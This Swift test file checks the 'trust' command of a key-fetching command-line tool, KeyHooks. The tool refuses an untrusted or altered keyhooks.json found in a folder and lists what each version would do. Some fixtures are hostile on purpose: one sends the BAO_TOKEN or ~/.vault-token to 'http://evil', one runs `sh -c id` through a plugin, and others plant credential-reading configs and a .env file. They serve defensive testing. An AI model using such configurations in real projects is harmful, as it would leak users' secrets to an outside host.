#if CLI
import Foundation
import KeyHooks
import Testing

@Suite("Trusting a configuration that was found")
struct TrustCommandTests {
    private func run(_ tool: Tool, _ arguments: String..., more: [String: String] = [:]) async throws -> Tool.Run {
        try await tool.run(arguments, environment: more, finding: true)
    }

    @Test(
        "Every command that reads it refuses it until it is trusted, and after each change",
        arguments: [
            ["get", "openai"], ["explain", "openai"], ["list"], ["plugins", "list"], ["plugins", "trust", "acme"],
            ["get", "openai", "--no-plugins"], ["get", "openai", "--env-file", "x.env"],
        ]
    )
    func refused(arguments: [String]) async throws {
        try await withTool { tool in
            try tool.write("keyhooks.json", "{}")
            try tool.write("x.env", "OPENAI_API_KEY=sk-file")
            let environment = ["OPENAI_API_KEY": "sk-weaker"]
            let before = try await tool.run(arguments, environment: environment, finding: true)
            #expect(before.status == 78 && before.text.isEmpty)
            #expect(before.errors.contains("was found in this folder and you haven't trusted it"))
            #expect(before.errors.contains("then: keyhooks trust\n"))
            #expect(try await run(tool, "trust").status == 0)
            let trusted = try await tool.run(arguments, environment: environment, finding: true)
            #expect(trusted.status != 78, "\(trusted.errors)")
            try tool.write("keyhooks.json", "{ }")
            let after = try await tool.run(arguments, environment: environment, finding: true)
            #expect(after.status == 78 && after.errors.contains("changed since you trusted it"))
        }
    }

    @Test("A section with mistakes isn't trusted, and they are reported", arguments: [[], ["--show"]])
    func mistakes(_ options: [String]) async throws {
        try await withTool { tool in
            try tool.write("keyhooks.json", "{plugins: {openbao: {path: 'p', ttl: 5, adress: 'https://a'}}}")
            let run = try await tool.run(["trust"] + options, finding: true)
            #expect(run.status == 78 && run.text.isEmpty, "\(run.text)")
            #expect(run.errors.contains("openbao.ttl: a duration needs a unit"), "\(run.errors)")
            #expect(run.errors.contains("Did you mean 'address'?"), "\(run.errors)")
            try tool.write("keyhooks.json", "{plugins: {openbao: {path: 'p'}}}")
            #expect(
                try await tool.run(["trust"] + options, finding: true).text.contains("haven't trusted")
                    != options.isEmpty
            )
        }
    }

    @Test("It says what the file does and records that, and what changed since in the same words")
    func words() async throws {
        try await withTool { tool in
            try tool.write("keyhooks.json", "{plugins: {openbao: {address: 'https://real', path: 'p'}}}")
            let show = try await run(tool, "trust", "--show")
            #expect(show.status == 78)
            #expect(show.text.contains("sends the token of BAO_TOKEN, or of ~/.vault-token, to https://real\n"))
            #expect(try await run(tool, "list").status == 78)
            let trust = try await run(tool, "trust")
            #expect(trust.status == 0 && trust.errors.isEmpty)
            let words = show.text.replacing("You haven't trusted it yet. It\n", with: "If you trust it, it\n")
            #expect(
                trust.text == words + "Trusted as it is now, until it changes. To undo: keyhooks untrust\n"
                    && trust.text.contains("\nIf you trust it, it\n")
            )
            #expect(try await run(tool, "trust", "--show").status == 0)
            try tool.write(
                "keyhooks.json",
                "{plugins: {openbao: {address: 'http://evil', path: 'p'}, command: {commands: {'*': ['sh', '-c', 'id']}}}}"
            )
            let changed = try await run(tool, "trust", "--show")
            #expect(changed.status == 78)
            #expect(
                changed.text.hasSuffix(
                    """
                    It changed since you trusted it. What changed (+ new, - gone):
                      + sends the token of BAO_TOKEN, or of ~/.vault-token, to http://evil
                      + runs `sh -c id` through plugin command, as 'commands.*'
                      - sends the token of BAO_TOKEN, or of ~/.vault-token, to https://real

                    """
                )
            )
        }
    }

    @Test(
        "Wrong use is reported: no file, a file with mistakes, one that others can write, decisions that cannot be kept"
    )
    func mistakes() async throws {
        try await withTool { tool in
            let missing = try await run(tool, "trust")
            #expect(missing.status == 1 && missing.errors.contains("keyhooks.json does not exist"))
            #expect(try await run(tool, "untrust").status == 1)
            try tool.write("other/keyhooks.json", "{provders: {}}")
            let mistaken = try await run(tool, "trust", "other")
            #expect(mistaken.status == 78 && mistaken.errors.contains("Did you mean 'providers'?"))
            let file = try tool.write("keyhooks.json", "{}")
            try FileManager.default.setAttributes([.posixPermissions: 0o666], ofItemAtPath: file)
            let open = try await run(tool, "trust")
            #expect(open.status == 78 && open.errors.contains("Run: chmod go-w keyhooks.json"))
            try FileManager.default.setAttributes([.posixPermissions: 0o600], ofItemAtPath: file)
            try tool.write("file", "")
            let home = ["HOME": tool.folder.appendingPathComponent("file").path]
            let kept = try await run(tool, "trust", more: home)
            #expect(kept.status == 78 && kept.errors.contains("Not a directory"), "\(kept.errors)")
            #expect(kept.errors.hasPrefix("error: Not trusted: ") && !kept.text.contains("rusted"))
        }
    }

    @Test("A decision that can't be written is not claimed")
    func unwritable() async throws {
        try await withTool { tool in
            try tool.write("keyhooks.json", "{}")
            // A folder where the file that is locked belongs: even root can't write to that.
            try tool.write("home/.config/keyhooks/plugins-state.json.lock/x", "")
            let home = ["HOME": tool.folder.appendingPathComponent("home").path]
            let kept = try await run(tool, "trust", more: home)
            #expect(kept.status == 78 && kept.errors.hasPrefix("error: Not trusted: "), "\(kept.errors)")
            #expect(!kept.text.contains("rusted"), "\(kept.text)")
        }
    }

    @Test("A changed file that does the same is not called the same")
    func sameWords() async throws {
        try await withTool { tool in
            try tool.write("keyhooks.json", "{}")
            #expect(try await run(tool, "trust").status == 0)
            try tool.write("keyhooks.json", "{ }")
            let changed = try await run(tool, "trust", "--show")
            #expect(changed.status == 78)
            #expect(changed.text.hasSuffix("These words are the same as before, but the file isn't: look at it.\n"))
        }
    }

    @Test("What needs no trust gets none: the user's own file, and files of other names")
    func needless() async throws {
        try await withTool { tool in
            let own = try tool.write("home/.config/keyhooks/keyhooks.json", "{}")
            let home = ["HOME": tool.folder.appendingPathComponent("home").path]
            for arguments in [["trust", own], ["trust", "home/.config/keyhooks"], ["trust", "--show", own]] {
                let run = try await tool.run(arguments, environment: home, finding: true)
                #expect(run.status == 0 && run.text == "This is your own file; it needs no trust.\n", "\(run.errors)")
            }
            // A link may lead to the own file now and elsewhere later.
            try FileManager.default.createSymbolicLink(
                at: tool.folder.appendingPathComponent("keyhooks.json"),
                withDestinationURL: URL(fileURLWithPath: own)
            )
            let link = try await run(tool, "trust", "--show", more: home)
            #expect(link.status == 78 && link.text.contains("You haven't trusted it yet"))
            try tool.write("other.json", "{}")
            let other = try await run(tool, "trust", "other.json", more: home)
            #expect(other.status == 64 && other.text.isEmpty)
            #expect(other.errors.contains("Only a file called keyhooks.json is found by itself"))
            let decisions = tool.folder.appendingPathComponent("home/.config/keyhooks/plugins-state.json").path
            #expect(!FileManager.default.fileExists(atPath: decisions))
        }
    }

    @Test("An empty path is wrong usage", arguments: ["trust", "untrust"])
    func empty(command: String) async throws {
        try await withTool { tool in
            try tool.write("keyhooks.json", "{}")
            let run = try await run(tool, command, "")
            #expect(run.status == 64 && run.text.isEmpty && run.errors.contains("an empty path names no file"))
        }
    }

    @Test("The way to undo it names the file that was named")
    func undo() async throws {
        try await withTool { tool in
            try tool.write("in ner/keyhooks.json", "{}")
            let trust = try await run(tool, "trust", "in ner")
            let line = try #require(trust.lines.last)
            #expect(line.hasPrefix("Trusted as it is now, until it changes. To undo: keyhooks untrust '/"))
            #expect(line.hasSuffix("/in ner/keyhooks.json'"))
        }
    }

    @Test("Trust is taken back by untrust, and one file is not another")
    func untrust() async throws {
        try await withTool { tool in
            try tool.write("keyhooks.json", "{}")
            try tool.write("inner/keyhooks.json", "{}")
            #expect(try await run(tool, "trust", "inner/keyhooks.json").status == 0)
            #expect(try await run(tool, "list").status == 78)
            #expect(try await run(tool, "trust").status == 0)
            #expect(try await run(tool, "list").status == 0)
            #expect(try await run(tool, "untrust", ".").status == 0)
            #expect(try await run(tool, "list").status == 78)
        }
    }

    @Test("What is named, or the user's own, is believed; --user-config ignores what was found, .env included")
    func believed() async throws {
        try await withTool { tool in
            try tool.write("keyhooks.json", "{providers: {openai: {env: ['AWS_SECRET_ACCESS_KEY'], plugins: []}}}")
            try tool.write(".env", "OPENAI_API_KEY=sk-planted")
            try tool.write("named.json", "{providers: {openai: {env: ['NAMED_KEY']}}}")
            let variables = ["AWS_SECRET_ACCESS_KEY": "aws-secret", "NAMED_KEY": "sk-named"]
            let place = tool.folder.appendingPathComponent("named.json").path
            let named = variables.merging(["KEYHOOKS_CONFIG": place]) { $1 }
            #expect(try await run(tool, "get", "openai", more: named).text == "sk-named\n")
            #expect(
                try await run(tool, "get", "openai", "--config", "named.json", more: variables).text == "sk-named\n"
            )
            let nothing = try await run(tool, "get", "openai", "--user-config", more: variables)
            #expect(nothing.status == 1 && nothing.text.isEmpty, "\(nothing.text)")
            let own = tool.folder.deletingLastPathComponent().appendingPathComponent("home/.config/keyhooks")
            try FileManager.default.createDirectory(at: own, withIntermediateDirectories: true)
            try Data("{providers: {openai: {env: ['OWN_KEY']}}}".utf8)
                .write(to: own.appendingPathComponent("keyhooks.json"))
            let keys = variables.merging(["OWN_KEY": "sk-own"]) { $1 }
            #expect(try await run(tool, "get", "openai", "--user-config", more: keys).text == "sk-own\n")
            #expect(try await run(tool, "get", "openai", more: keys).status == 78)
        }
    }

    @Test("Without HOME, or with a relative one, the user's own plugins and decisions are the same")
    func home() async throws {
        try await withTool { tool in
            // The home of the password database is not for tests to write to: that it is looked at is what is tested.
            try tool.write("keyhooks.json", "{}")
            for home in ["", ".", "home"] {
                let run = try await run(tool, "list", more: ["HOME": home])
                #expect(run.status == 78 && run.errors.contains("you haven't trusted it"), "\(run.errors)")
            }
        }
    }
}
#endif
